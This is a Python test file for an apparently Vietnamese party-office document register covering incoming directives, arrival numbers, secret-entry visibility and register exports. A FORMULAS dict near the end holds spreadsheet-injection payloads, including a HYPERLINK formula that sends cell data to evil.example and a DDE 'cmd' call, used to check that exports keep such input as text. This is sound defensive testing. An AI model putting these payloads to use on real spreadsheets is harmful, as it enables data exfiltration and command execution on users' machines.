"""Documents from outside, our own from before the system, and secret ones by metadata only."""

from __future__ import annotations

import threading
from datetime import datetime, timedelta

import pytest
from docx.oxml.ns import qn

from ancuu_docs.documents.models import Document, NumberCounter
from ancuu_docs.extensions import db
from ancuu_docs.registers.books import COLUMNS
from ancuu_docs.registers.models import ArrivalCounter
from ancuu_docs.timeutil import local_today
from tests import samples
from tests.conftest import uploads_files
from tests.tools import needs

DIRECTIVE = {
    "origin": "incoming",
    "doc_type": "CT",
    "title": "Chỉ thị về lãnh đạo cuộc bầu cử đại biểu Quốc hội khóa XVI và đại biểu Hội đồng nhân dân",
    "number": "46-CT/TW",
    "issuer": "Bộ Chính trị",
    "issue_date": "2025-06-16",
    "received_date": "2025-06-20",
    "urgency": "khan",
    "handler": "Trần Thị Hoa",
    "reply_due": "2025-07-15",
}


def register(api, role="secretariat", file=None, **fields):
    if file is None:
        return api(role, "POST", "/documents", json=fields)
    form = {**fields, "file": (samples.stream(file), "scan.pdf")}
    return api(role, "POST", "/documents", data=form, content_type="multipart/form-data")


def test_an_incoming_directive_is_registered_with_its_printed_number_and_an_arrival_number(api):
    response = register(api, file=samples.pdf(["Chi thi 46-CT/TW cua Bo Chinh tri ve bau cu"]), **DIRECTIVE)
    assert response.status_code == 201, response.json
    doc = response.json
    assert doc["origin"] == "incoming" and doc["number"] == "46-CT/TW" and doc["issuer"] == "Bộ Chính trị"
    assert (doc["arrival_year"], doc["arrival_number"]) == (2025, 1)
    assert doc["status"] == "approved" and doc["issue_date"] == "2025-06-16" and doc["current_version"] == 1
    assert doc["urgency"] == "khan" and doc["reply_due"] == "2025-07-15"
    # Our counter never numbers it.
    db.session.rollback()
    assert db.session.query(NumberCounter).count() == 0
    ours = api.upload("secretariat", doc_type="CT").json
    api.transition("secretariat", ours["id"], "in_review")
    assert api.transition("secretariat", ours["id"], "approved").json["number"] == "01-CT/ĐU"
    # A member finds it by its number as typed, and reads it.
    hits = api("member", "GET", "/search", query_string={"q": "46-ct/tw"}).json["hits"]
    assert [h["id"] for h in hits] == [doc["id"]]
    assert api("member", "GET", f"/documents/{doc['id']}").status_code == 200
    # The next arrival of the year is number 2; a new year starts again at 1.
    second = register(api, **{**DIRECTIVE, "number": "12-NQ/TU", "issuer": "Thành ủy Huế"}).json
    assert second["arrival_number"] == 2 and second["current_version"] is None  # metadata only
    next_year = register(
        api, **{**DIRECTIVE, "number": "01-HD/TU", "issue_date": "2026-01-05", "received_date": "2026-01-06"}
    )
    assert (next_year.json["arrival_year"], next_year.json["arrival_number"]) == (2026, 1)


def test_our_numbers_from_before_are_claimed_once_and_move_the_counter(api):
    old_term = {
        "origin": "internal",
        "doc_type": "NQ",
        "title": "Nghị quyết về quản lý đất đai",
        "number": "05-NQ/ĐU",
        "issue_date": "2023-04-10",
        "term": "2020-2025",
    }
    assert register(api, **old_term).status_code == 201
    again = register(api, **old_term)
    assert (
        again.status_code == 409
        and "Số 05-NQ/ĐU của nhiệm kỳ 2020-2025 đã có trong sổ." in again.json["error"]
    )
    current = {**old_term, "number": "07-NQ/ĐU", "issue_date": "2025-10-01", "term": "2025-2030"}
    registered = register(api, **current).json
    assert registered["number"] == "07-NQ/ĐU" and registered["origin"] == "internal"
    draft = api.upload("secretariat").json
    api.transition("secretariat", draft["id"], "in_review")
    assert api.transition("secretariat", draft["id"], "approved").json["number"] == "08-NQ/ĐU"
    wrong_type = register(api, **{**current, "number": "09-BC/ĐU"})
    assert wrong_type.status_code == 400 and "không khớp loại văn bản" in wrong_type.json["error"]
    other_body = register(api, **{**current, "number": "09-NQ/TU"})
    assert other_body.status_code == 400 and "đăng ký là văn bản đến" in other_body.json["error"]


def test_a_secret_entry_with_a_file_is_refused_and_leaves_nothing(app, api):
    before = len(uploads_files(app))
    secret = {**DIRECTIVE, "number": "15-CV/TU", "security_level": "mat"}
    refused = register(api, file=samples.pdf(["noi dung mat"]), **secret)
    assert refused.status_code == 400 and "không được lưu trên hệ thống nối mạng" in refused.json["error"]
    db.session.rollback()
    assert db.session.query(Document).count() == 0 and len(uploads_files(app)) == before
    assert db.session.query(ArrivalCounter).count() == 0  # no arrival number spent
    # Nor a summary of its content: only number, date, issuer and subject are registered.
    summary = register(api, **secret, summary="Danh sách cán bộ thuộc diện thẩm tra lý lịch")
    assert summary.status_code == 400 and "Văn bản mật không ghi tóm tắt nội dung" in summary.json["error"]
    entry = register(api, **secret)
    assert entry.status_code == 201 and entry.json["current_version"] is None
    by_number = api("secretariat", "GET", "/search", query_string={"q": "15-CV/TU"}).json["hits"]
    assert [h["id"] for h in by_number] == [entry.json["id"]]
    adding = api.add_version("secretariat", entry.json["id"], samples.docx(["x"]), base_version=0)
    assert adding.status_code == 409 and "Văn bản mật chỉ đăng ký thông tin" in adding.json["error"]


def test_a_top_secret_entry_is_invisible_to_members_everywhere(api, login):
    entry = register(
        api, **{**DIRECTIVE, "number": "03-CV/TU", "title": "", "security_level": "tuyet_mat"}
    ).json
    assert entry["title"] == "(trích yếu không ghi)" and entry["security_level"] == "tuyet_mat"
    page = login("secretariat").get(f"/documents/{entry['id']}").get_data(as_text=True)
    assert "(trích yếu không ghi)" in page and "Tuyệt mật" in page
    assert api("secretariat", "GET", f"/documents/{entry['id']}").status_code == 200
    for role in ("member", "clerk"):
        assert api(role, "GET", f"/documents/{entry['id']}").status_code == 404
        listed = api(role, "GET", "/documents").json["documents"]
        assert entry["id"] not in [d["id"] for d in listed]
        found = api(role, "GET", "/search", query_string={"q": "03-CV/TU"}).json
        assert entry["id"] not in [h["id"] for h in found["hits"]]
        # Not counted either: the index marks it as one not every member reads.
        assert found["total"] == 0 and found["facets"]["doc_type"] == {}
    office_hits = api("secretariat", "GET", "/search", query_string={"q": "03-CV/TU"}).json["hits"]
    assert [h["id"] for h in office_hits] == [entry["id"]]


def test_registration_is_the_offices_and_bad_input_is_400_per_field(api):
    assert register(api, role="clerk", **DIRECTIVE).status_code == 403
    assert register(api, role="member", **DIRECTIVE).status_code == 403
    response = register(
        api, origin="incoming", doc_type="XX", number="", issue_date="2099-01-01", received_date="hôm qua"
    )
    assert response.status_code == 400
    errors = response.json["errors"]
    assert set(errors) >= {"doc_type", "number", "issuer", "title", "received_date"}
    late = register(api, **{**DIRECTIVE, "issue_date": "2025-07-01", "received_date": "2025-06-20"})
    assert late.status_code == 400 and "Ngày đến không được trước ngày ban hành." in late.json["error"]


def test_concurrent_registrations_get_distinct_gapless_arrival_numbers(app, api):
    results, errors = [], []

    def one(i: int) -> None:
        with app.app_context():
            response = register(api, **{**DIRECTIVE, "number": f"{i}-CV/TU", "title": f"Công văn {i}"})
            (results if response.status_code == 201 else errors).append(response)

    def refused(i: int) -> None:  # a bad registration in the middle never spends a number
        with app.app_context():
            response = register(api, **{**DIRECTIVE, "number": f"{i}-CV/TU", "issuer": ""})
            assert response.status_code == 400

    threads = [threading.Thread(target=one, args=(i,)) for i in range(1, 13)]
    threads += [threading.Thread(target=refused, args=(i,)) for i in range(100, 104)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert not errors, [e.json for e in errors]
    assert sorted(r.json["arrival_number"] for r in results) == list(range(1, 13))


def test_the_register_form_registers_an_incoming_scan_and_shows_errors_beside_fields(login, api):
    client = login("secretariat")
    page = client.get("/documents/register").get_data(as_text=True)
    assert '<option value="Bộ Chính trị">' in page and 'name="security_level"' in page
    bad = client.post("/documents/register", data={"origin": "incoming", "doc_type": "CT", "number": ""})
    text = bad.get_data(as_text=True)
    assert bad.status_code == 400 and "Cần nhập số, ký hiệu." in text and "Cần nhập ngày ban hành." in text
    form = {
        **{k: v for k, v in DIRECTIVE.items()},
        "security_level": "none",
        "file": (samples.stream(samples.pdf(["Chi thi 46-CT/TW"])), "46-CT-TW.pdf"),
    }
    done = client.post(
        "/documents/register", data=form, content_type="multipart/form-data", follow_redirects=True
    )
    text = done.get_data(as_text=True)
    assert "Đã đăng ký văn bản số 46-CT/TW. Số đến 1/2025." in text
    assert (
        "Bộ Chính trị" in text and "Văn bản đến" in text and "Khẩn" in text and "Tải về phiên bản 1" in text
    )
    secret = {**form, "number": "15-CV/TU", "security_level": "mat"}
    secret["file"] = (samples.stream(samples.pdf(["mat"])), "mat.pdf")
    refused = client.post("/documents/register", data=secret, content_type="multipart/form-data")
    assert refused.status_code == 400
    assert "không được lưu trên hệ thống nối mạng" in refused.get_data(as_text=True)
    assert login("clerk").get("/documents/register").status_code == 403


# ------------------------------------------------------------------ the registers


def _incoming_year(api):
    """Three arrivals in 2025 (one secret, one overdue) and one of ours issued."""
    register(api, **DIRECTIVE)
    register(
        api,
        **{
            **DIRECTIVE,
            "doc_type": "NQ",
            "number": "12-NQ/TU",
            "issuer": "Thành ủy Huế",
            "title": "Nghị quyết về phát triển đô thị Huế",
            "received_date": "2025-07-02",
            "issue_date": "2025-06-30",
            "reply_due": "2025-08-01",
        },
    )
    register(api, **{**DIRECTIVE, "number": "03-CV/TU", "title": "", "security_level": "tuyet_mat"})
    ours = api.upload("secretariat", data=samples.party_docx()).json
    api.transition("secretariat", ours["id"], "in_review")
    api(
        "secretariat",
        "POST",
        f"/documents/{ours['id']}/transitions",
        json={"to": "approved", "issue_date": "2025-11-05", "signer": "Nguyễn Văn Hùng"},
    )
    return ours


def test_the_registers_list_entries_in_register_order_for_who_may_read_them(api):
    _incoming_year(api)
    office = api("secretariat", "GET", "/registers/incoming", query_string={"year": 2025}).json["entries"]
    assert [e["arrival_number"] for e in office] == [1, 2]  # the secret one is in its own book
    assert office[0]["number"] == "46-CT/TW" and office[0]["received_date"] == "20/06/2025"
    secret = api("secretariat", "GET", "/registers/incoming-secret", query_string={"year": 2025}).json
    assert [(e["arrival_number"], e["subject"], e["security"], e["urgency"]) for e in secret["entries"]] == [
        (1, "Chỉ thị (trích yếu không ghi)", "Tuyệt mật", "Khẩn")
    ]
    member = api("member", "GET", "/registers/incoming", query_string={"year": 2025}).json["entries"]
    assert [e["arrival_number"] for e in member] == [1, 2]
    by_issuer = api(
        "member", "GET", "/registers/incoming", query_string={"year": 2025, "issuer": "thành ủy huế"}
    )
    assert [e["number"] for e in by_issuer.json["entries"]] == ["12-NQ/TU"]
    not_yet_due = (local_today() + timedelta(days=30)).isoformat()
    register(
        api,
        **{
            **DIRECTIVE,
            "number": "07-TB/UBKTTU",
            "issuer": "Ủy ban Kiểm tra Thành ủy",
            "reply_due": not_yet_due,
        },
    )
    capital = api(
        "member",
        "GET",
        "/registers/incoming",
        query_string={"year": 2025, "issuer": "ủy ban kiểm tra thành ủy"},
    )
    assert [e["number"] for e in capital.json["entries"]] == ["07-TB/UBKTTU"]  # "Ủ" is no A-Z letter
    overdue = api("member", "GET", "/registers/incoming", query_string={"year": 2025, "overdue": "true"})
    assert {e["number"] for e in overdue.json["entries"]} == {
        "46-CT/TW",
        "12-NQ/TU",
    }  # not the one not yet due
    assert api("member", "GET", "/registers/incoming", query_string={"year": 2024}).json["entries"] == []
    outgoing = api("member", "GET", "/registers/outgoing", query_string={"year": 2025}).json["entries"]
    assert [(e["number"], e["issue_date"], e["signer"]) for e in outgoing] == [
        ("01-NQ/ĐU", "05/11/2025", "Nguyễn Văn Hùng")
    ]
    bad = api("member", "GET", "/registers/incoming", query_string={"year": "năm nay"})
    assert bad.status_code == 400 and bad.json["error"] == "Năm phải là số nguyên."
    assert api("member", "GET", "/registers/sideways").status_code == 404


@needs("pdftotext")
def test_the_registers_download_as_xlsx_pdf_and_docx(api, tmp_path):
    import io
    import subprocess

    from docx import Document as open_docx
    from openpyxl import load_workbook

    _incoming_year(api)
    xlsx = api("secretariat", "GET", "/registers/incoming", query_string={"year": 2025, "format": "xlsx"})
    assert xlsx.status_code == 200 and "so-van-ban-den-2025.xlsx" in xlsx.headers["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(xlsx.data)).active
    assert sheet["A2"].value == "SỔ ĐĂNG KÝ VĂN BẢN ĐẾN NĂM 2025"
    assert [c.value for c in sheet[4]][:4] == ["Số đến", "Ngày đến", "Tác giả", "Số và ký hiệu"]
    assert [sheet.cell(row=r, column=4).value for r in (5, 6, 7)] == ["46-CT/TW", "12-NQ/TU", None]
    for kind, headings, rows in (
        (
            "outgoing",
            ("SỔ ĐĂNG KÝ VĂN BẢN ĐI NĂM 2025", "Số và ký hiệu", "Người ký", "Nơi nhận", "Ngày gửi"),
            ("01-NQ/ĐU", "Nguyễn Văn Hùng"),
        ),
        (
            "incoming",
            ("SỔ ĐĂNG KÝ VĂN BẢN ĐẾN NĂM 2025", "Tác giả", "Ký nhận", "Ghi chú"),
            ("46-CT/TW", "Thành ủy Huế"),
        ),
    ):
        pdf = api("secretariat", "GET", f"/registers/{kind}", query_string={"year": 2025, "format": "pdf"})
        assert pdf.status_code == 200 and pdf.data.startswith(b"%PDF")
        path = tmp_path / f"{kind}.pdf"
        path.write_bytes(pdf.data)
        text = subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True).stdout
        for phrase in (*headings, *rows):
            assert phrase in text, (kind, phrase)
    outgoing = api("secretariat", "GET", "/registers/outgoing", query_string={"year": 2025, "format": "xlsx"})
    rows = list(load_workbook(io.BytesIO(outgoing.data)).active.iter_rows(min_row=5, values_only=True))
    assert rows[0][:2] == ("01-NQ/ĐU", datetime(2025, 11, 5)) and rows[0][3] == "Nguyễn Văn Hùng"
    docx = api("secretariat", "GET", "/registers/incoming", query_string={"year": 2025, "format": "docx"})
    table = open_docx(io.BytesIO(docx.data)).tables[0]
    assert table.cell(0, 0).text == "Số đến" and len(table.rows) == 3
    wrong = api("member", "GET", "/registers/incoming", query_string={"format": "odt"})
    assert wrong.status_code == 400


@needs("pdftotext")
def test_the_books_print_as_an_office_prints_them(api, tmp_path):
    """XLSX: dates as date cells, the headings frozen, printed on every page and filterable.
    DOCX: the declared column widths, the heading row repeated, no entry split across pages,
    "Trang x/y". PDF: "Trang x/y"."""
    import io
    import subprocess

    from docx import Document as open_docx
    from openpyxl import load_workbook

    _incoming_year(api)
    xlsx = api("secretariat", "GET", "/registers/incoming", query_string={"year": 2025, "format": "xlsx"})
    sheet = load_workbook(io.BytesIO(xlsx.data)).active
    arrived = sheet["B5"]
    assert isinstance(arrived.value, datetime) and arrived.number_format == "DD/MM/YYYY"
    assert sheet.freeze_panes == "A5" and sheet.print_title_rows == "$4:$4"
    assert sheet.auto_filter.ref == "A4:M6"
    docx = api("secretariat", "GET", "/registers/incoming", query_string={"year": 2025, "format": "docx"})
    document = open_docx(io.BytesIO(docx.data))
    table = document.tables[0]
    grid = [int(col.get(qn("w:w"))) for col in table._tbl.tblGrid.findall(qn("w:gridCol"))]
    declared = [width for _key, _label, width in COLUMNS["incoming"]]
    assert [round(w / grid[0] * declared[0], 1) for w in grid] == [float(w) for w in declared]
    heading = table.rows[0]
    assert heading._tr.trPr.find(qn("w:tblHeader")) is not None
    assert all(row._tr.trPr.find(qn("w:cantSplit")) is not None for row in table.rows)
    footer = document.sections[0].footer.paragraphs[0]._p.xml
    assert "Trang " in footer and 'w:instr="PAGE"' in footer and 'w:instr="NUMPAGES"' in footer
    pdf = api("secretariat", "GET", "/registers/incoming", query_string={"year": 2025, "format": "pdf"})
    path = tmp_path / "incoming.pdf"
    path.write_bytes(pdf.data)
    text = subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True).stdout
    assert "Trang 1/1" in text


def test_a_book_opens_on_its_latest_year_and_leads_to_the_others(api, login):
    """Not on an empty new year with a blank "Năm" box: on the last year with entries, the box
    filled, with links to the years before and after that have entries."""
    _incoming_year(api)
    register(
        api,
        **{**DIRECTIVE, "number": "07-CT/TU", "issue_date": "2024-03-01", "received_date": "2024-03-04"},
    )
    client = login("member")
    page = client.get("/registers/incoming").get_data(as_text=True)
    assert (
        "Sổ đăng ký văn bản đến năm 2025" in page and 'name="year" size="6" type="text" value="2025"' in page
    )
    assert "‹ Năm 2024" in page and "Năm 2026 ›" not in page
    earlier = client.get("/registers/incoming?year=2024").get_data(as_text=True)
    assert "07-CT/TU" in earlier and "Năm 2025 ›" in earlier and "‹ Năm" not in earlier
    outgoing = client.get("/registers/outgoing").get_data(as_text=True)
    assert "Sổ đăng ký văn bản đi năm 2025" in outgoing and "01-NQ/ĐU" in outgoing
    answer = api("member", "GET", "/registers/incoming").json
    assert answer["year"] == 2025 and len(answer["entries"]) == 2  # the secret one is not the member's


def test_the_register_page_filters_and_offers_the_files(api, login):
    _incoming_year(api)
    client = login("member")
    page = client.get("/registers/incoming?year=2025").get_data(as_text=True)
    assert "Sổ đăng ký văn bản đến năm 2025" in page and "46-CT/TW" in page and "03-CV/TU" not in page
    assert "format=pdf" in page and "format=xlsx" in page and "format=docx" in page
    filtered = client.get("/registers/incoming?year=2025&issuer=Thành ủy Huế").get_data(as_text=True)
    assert "12-NQ/TU" in filtered and "46-CT/TW" not in filtered
    bad = client.get("/registers/incoming?year=abc")
    assert bad.status_code == 400 and "Năm phải là số nguyên." in bad.get_data(as_text=True)
    assert client.get("/registers/elsewhere").status_code == 404
    xlsx = client.get("/registers/outgoing?year=2025&format=xlsx")
    assert xlsx.status_code == 200 and xlsx.mimetype.endswith("spreadsheetml.sheet")


def test_search_filters_and_counts_by_origin_and_issuer(api, login):
    _incoming_year(api)
    everything = api("member", "GET", "/search", query_string={"q": "nghị quyết"}).json
    assert everything["facets"]["origin"] == {"incoming": 1, "internal": 1}
    incoming = api("member", "GET", "/search", query_string={"q": "nghị quyết", "origin": "incoming"}).json
    assert [h["number"] for h in incoming["hits"]] == ["12-NQ/TU"]
    by_issuer = api("member", "GET", "/search", query_string={"q": "", "issuer": "Bộ Chính trị"}).json
    assert [h["number"] for h in by_issuer["hits"]] == ["46-CT/TW"]
    # The issuer is searchable as words too, as readers type it.
    typed = api("member", "GET", "/search", query_string={"q": "thanh uy hue"}).json
    assert "12-NQ/TU" in [h["number"] for h in typed["hits"]]
    bad = api("member", "GET", "/search", query_string={"q": "x", "origin": "outside"})
    assert bad.status_code == 400 and "Nguồn «outside» không có." in bad.json["error"]
    page = login("member").get("/search?q=nghị+quyết").get_data(as_text=True)
    assert "Nguồn" in page and "Văn bản đến" in page and "Cơ quan ban hành" in page


def test_the_outgoing_register_takes_recipients_from_the_draft_and_copies_and_date_sent(api, login):
    from tests.test_drafting import FIELDS

    draft = api(
        "clerk", "POST", "/drafts", json={"template": "resolution", "fields": FIELDS["resolution"]}
    ).json
    api.transition("clerk", draft["id"], "in_review")
    early = api("secretariat", "POST", f"/documents/{draft['id']}/dispatch", json={"copies": 3})
    assert early.status_code == 409  # not issued yet: not in the outgoing register
    api(
        "secretariat",
        "POST",
        f"/documents/{draft['id']}/transitions",
        json={"to": "approved", "issue_date": "2025-11-05"},
    )
    client = login("secretariat")
    bad = client.post(
        f"/documents/{draft['id']}/dispatch",
        data={"recipients": "", "copies": "0", "sent_date": "2025-11-01"},
        follow_redirects=True,
    )
    assert "Số bản phải từ 1 đến 10000." in bad.get_data(as_text=True)
    assert api("secretariat", "GET", f"/documents/{draft['id']}").json["copies"] is None
    done = client.post(
        f"/documents/{draft['id']}/dispatch",
        data={
            "recipients": "- Ban Thường vụ Thành ủy (b/c),\n- Lưu Văn phòng Đảng ủy.",
            "copies": "25",
            "sent_date": "2025-11-06",
        },
        follow_redirects=True,
    )
    assert "Đã ghi sổ văn bản đi." in done.get_data(as_text=True)
    row = api("member", "GET", "/registers/outgoing", query_string={"year": 2025}).json["entries"][0]
    assert row["number"] == "01-NQ/ĐU" and row["copies"] == 25 and row["sent_date"] == "06/11/2025"
    assert row["recipients"] == "Ban Thường vụ Thành ủy (b/c); Lưu Văn phòng Đảng ủy"
    early_send = api(
        "secretariat", "POST", f"/documents/{draft['id']}/dispatch", json={"sent_date": "2025-11-01"}
    )
    assert (
        early_send.status_code == 400
        and "Ngày gửi không được trước ngày ban hành." in early_send.json["error"]
    )


def test_the_draft_recipients_fill_the_outgoing_register_at_approval(api):
    from tests.test_drafting import FIELDS

    draft = api(
        "clerk", "POST", "/drafts", json={"template": "resolution", "fields": FIELDS["resolution"]}
    ).json
    api.transition("clerk", draft["id"], "in_review")
    api(
        "secretariat",
        "POST",
        f"/documents/{draft['id']}/transitions",
        json={"to": "approved", "issue_date": "2025-11-05"},
    )
    row = api("member", "GET", "/registers/outgoing", query_string={"year": 2025}).json["entries"][0]
    assert (
        row["recipients"]
        == "Ban Thường vụ Thành ủy (b/c); Các chi, đảng bộ trực thuộc; Lưu Văn phòng Đảng ủy"
    )


def test_every_security_level_is_hidden_from_members_and_clerks_in_every_list(api):
    ids = {}
    for level in ("mat", "toi_mat", "tuyet_mat"):
        entry = register(api, **{**DIRECTIVE, "number": f"9{len(ids)}-CV/TU", "security_level": level})
        ids[level] = entry.json["id"]
    for role in ("member", "clerk"):
        for doc_id in ids.values():
            assert api(role, "GET", f"/documents/{doc_id}").status_code == 404
        listed = {d["id"] for d in api(role, "GET", "/documents").json["documents"]}
        registered = {
            e["id"]
            for e in api(role, "GET", "/registers/incoming", query_string={"year": 2025}).json["entries"]
        }
        found = {h["id"] for h in api(role, "GET", "/search", query_string={"q": "CV/TU"}).json["hits"]}
        facets = api(role, "GET", "/search", query_string={"q": "bầu cử"}).json["facets"]
        assert not (listed | registered | found) & set(ids.values()), role
        assert "incoming" not in facets.get("origin", {}), role
    office = {
        e["id"]
        for e in api("secretariat", "GET", "/registers/incoming-secret", query_string={"year": 2025}).json[
            "entries"
        ]
    }
    assert set(ids.values()) == office


def test_a_registered_entry_takes_its_first_scan_through_the_page_and_never_a_draft(api, login):
    from tests.test_drafting import FIELDS

    entry = register(api, **DIRECTIVE).json  # metadata only
    ours = register(
        api,
        origin="internal",
        doc_type="NQ",
        title="Nghị quyết cũ",
        number="03-NQ/ĐU",
        issue_date="2023-05-02",
        term="2020-2025",
    ).json
    client = login("secretariat")
    for doc in (entry, ours):
        page = client.get(f"/documents/{doc['id']}/versions").get_data(as_text=True)
        assert 'name="base_version" type="hidden" value="0"' in page
        added = client.post(
            f"/documents/{doc['id']}/versions",
            data={"base_version": "0", "file": (samples.stream(samples.pdf(["Ban quet"])), "quet.pdf")},
            content_type="multipart/form-data",
        )
        assert added.status_code == 302, added.get_data(as_text=True)
        assert api("secretariat", "GET", f"/documents/{doc['id']}").json["current_version"] == 1
    drafted = api(
        "secretariat",
        "POST",
        "/drafts",
        json={
            "template": "resolution",
            "fields": FIELDS["resolution"],
            "document_id": ours["id"],
            "base_version": 1,
        },
    )
    assert drafted.status_code == 409 and "không soạn thêm dự thảo vào được" in drafted.json["error"]


def test_a_draft_replaces_our_old_entry_but_never_a_directive_from_above(api):
    old = register(
        api,
        origin="internal",
        doc_type="NQ",
        title="Nghị quyết cũ",
        number="03-NQ/ĐU",
        issue_date="2024-05-02",
        term="2020-2025",
    ).json  # registered without a file
    directive = register(api, **DIRECTIVE).json
    new = api.upload("secretariat").json
    refused = api(
        "secretariat",
        "POST",
        f"/documents/{new['id']}/relations",
        json={"relation": "replaces", "target_id": directive["id"]},
    )
    assert refused.status_code == 400 and "chỉ thay thế, sửa đổi văn bản của Đảng ủy" in refused.json["error"]
    linked = api(
        "secretariat",
        "POST",
        f"/documents/{new['id']}/relations",
        json={"relation": "replaces", "target_id": old["id"]},
    )
    assert linked.status_code == 201
    api.transition("secretariat", new["id"], "in_review")
    approved = api.transition("secretariat", new["id"], "approved")
    assert approved.status_code == 200, approved.json
    assert api("secretariat", "GET", f"/documents/{old['id']}").json["status"] == "superseded"


def test_registration_checks_the_term_and_a_title_with_control_characters_still_exports(api):
    bad_term = register(
        api,
        origin="internal",
        doc_type="NQ",
        title="x",
        number="04-NQ/ĐU",
        issue_date="2019-05-02",
        term="abc",
    )
    assert bad_term.status_code == 400 and "Nhiệm kỳ viết dạng «2020-2025»." in bad_term.json["error"]
    outside = register(
        api,
        origin="internal",
        doc_type="NQ",
        title="x",
        number="04-NQ/ĐU",
        issue_date="2019-05-02",
        term="2020-2025",
    )
    assert (
        outside.status_code == 400
        and "Ngày ban hành không thuộc nhiệm kỳ 2020-2025." in outside.json["error"]
    )
    register(api, **{**DIRECTIVE, "title": "Chỉ thị\x0bdán từ tệp khác"})
    for fmt in ("xlsx", "docx", "pdf"):
        response = api(
            "secretariat", "GET", "/registers/incoming", query_string={"year": 2025, "format": fmt}
        )
        assert response.status_code == 200, fmt


def test_a_reply_takes_an_entry_off_the_overdue_list(api, login):
    entry = register(api, **DIRECTIVE).json  # reply due 15/07/2025: overdue
    overdue = {"year": 2025, "overdue": "true"}
    assert [
        e["id"] for e in api("member", "GET", "/registers/incoming", query_string=overdue).json["entries"]
    ] == [entry["id"]]
    client = login("secretariat")
    too_early = client.post(
        f"/documents/{entry['id']}/handling",
        data={"handler": "Trần Thị Hoa", "reply_due": "2025-07-15", "replied_date": "2025-06-01"},
        follow_redirects=True,
    )
    assert "Ngày trả lời không được trước ngày đến." in too_early.get_data(as_text=True)
    done = client.post(
        f"/documents/{entry['id']}/handling",
        data={"handler": "Trần Thị Hoa", "reply_due": "2025-07-15", "replied_date": "2025-07-10"},
        follow_redirects=True,
    )
    assert "Đã ghi sổ văn bản đến." in done.get_data(
        as_text=True
    ) and "đã trả lời ngày 10/07/2025" in done.get_data(as_text=True)
    assert api("member", "GET", "/registers/incoming", query_string=overdue).json["entries"] == []
    row = api("member", "GET", "/registers/incoming", query_string={"year": 2025}).json["entries"][0]
    assert row["replied_date"] == "10/07/2025" and row["overdue"] is False


def test_the_office_corrects_a_registered_entrys_description_but_not_an_issued_document(api):
    entry = register(api, **{**DIRECTIVE, "title": "Chỉ thị về lãnh đạo cuộc bầu cữ"}).json  # a typo
    fixed = api(
        "secretariat", "PATCH", f"/documents/{entry['id']}", json={"title": "Chỉ thị về lãnh đạo cuộc bầu cử"}
    )
    assert fixed.status_code == 200 and fixed.json["title"] == "Chỉ thị về lãnh đạo cuộc bầu cử"
    assert api("clerk", "PATCH", f"/documents/{entry['id']}", json={"title": "x"}).status_code == 403
    secret = register(api, **{**DIRECTIVE, "number": "15-CV/TU", "security_level": "mat"}).json
    summary = api("secretariat", "PATCH", f"/documents/{secret['id']}", json={"summary": "nội dung"})
    assert summary.status_code == 400 and "Văn bản mật không ghi tóm tắt nội dung" in summary.json["error"]
    ours = api.upload("secretariat").json
    api.transition("secretariat", ours["id"], "in_review")
    api.transition("secretariat", ours["id"], "approved")
    issued = api("secretariat", "PATCH", f"/documents/{ours['id']}", json={"title": "Tên khác"})
    assert issued.status_code == 409  # issued here: it stays as issued


FORMULAS = {
    "issuer": '=HYPERLINK("http://evil.example/?x="&A1,"bấm")',
    "number": "=cmd|' /C calc'!A0",
    "signer": "=1+1",
    "handler": "+84 905 123 456",
    "recipients": "@SUM(1,2); -2+3",
    "archive_holder": "-Văn phòng+1",
    "note": "=IMPORTXML(A1)",
}


def _spreadsheet_cells(data: bytes) -> tuple[list, str]:
    """The cells as openpyxl reads them, and the sheet's own XML (where a formula is an <f>)."""
    import io
    import zipfile

    from openpyxl import load_workbook

    cells = [c for row in load_workbook(io.BytesIO(data)).active.iter_rows() for c in row]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return cells, archive.read("xl/worksheets/sheet1.xml").decode()


def test_what_people_typed_stays_text_in_every_xlsx_register(app, api, tmp_path):
    """An issuer, an imported number, a signer from a template's field, a handler and the
    recipients that look like formulas come out of both registers as the words typed."""
    import csv

    folder = tmp_path / "nhap"
    folder.mkdir()
    metadata = tmp_path / "danh-muc.csv"
    with metadata.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(
            ["file", "origin", "issuer", "number", "issue_date", "received_date", "doc_type", "title"]
        )
        writer.writerow(
            [
                "",
                "incoming",
                FORMULAS["issuer"],
                FORMULAS["number"],
                "2025-06-16",
                "2025-06-20",
                "CV",
                "Công văn",
            ]
        )
    imported = app.test_cli_runner().invoke(
        args=["import", str(folder), "--user", "secretariat", "--metadata", str(metadata)]
    )
    assert "Đã nhập 1" in imported.output, imported.output
    entry = db.session.query(Document).filter_by(origin="incoming").one()
    handling = {"handler": FORMULAS["handler"], "reply_due": "2025-07-15", "note": FORMULAS["note"]}
    assert api("secretariat", "POST", f"/documents/{entry.id}/handling", json=handling).status_code == 200

    from tests.test_drafting import FIELDS

    fields = {**FIELDS["resolution"], "signer_name": FORMULAS["signer"]}
    draft = api("clerk", "POST", "/drafts", json={"template": "resolution", "fields": fields}).json
    api.transition("clerk", draft["id"], "in_review")
    approval = {"to": "approved", "issue_date": "2025-11-05"}
    assert (
        api("secretariat", "POST", f"/documents/{draft['id']}/transitions", json=approval).json["signer"]
        == "=1+1"
    )
    dispatch = {
        "recipients": FORMULAS["recipients"],
        "archive_holder": FORMULAS["archive_holder"],
        "copies": 3,
        "sent_date": "2025-11-06",
    }
    assert api("secretariat", "POST", f"/documents/{draft['id']}/dispatch", json=dispatch).status_code == 200

    for kind, typed in (
        ("incoming", ("issuer", "number", "handler", "note")),
        ("outgoing", ("signer", "recipients", "archive_holder")),
    ):
        download = api(
            "secretariat", "GET", f"/registers/{kind}", query_string={"year": 2025, "format": "xlsx"}
        )
        cells, sheet_xml = _spreadsheet_cells(download.data)
        assert [c.coordinate for c in cells if c.data_type == "f"] == [], kind
        assert "<f>" not in sheet_xml and "<f " not in sheet_xml, kind
        for key in typed:
            cell = next(c for c in cells if c.value == FORMULAS[key])
            assert cell.data_type == "s" and cell.quotePrefix, (kind, key)


@pytest.mark.parametrize("typed", ["=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1"])
def test_every_start_of_a_formula_is_written_as_a_string_cell(typed):
    """The starts spreadsheets read as a formula (OWASP's list), tab and carriage return too:
    whatever the form or the import lets through, the cell stays the text."""
    import io

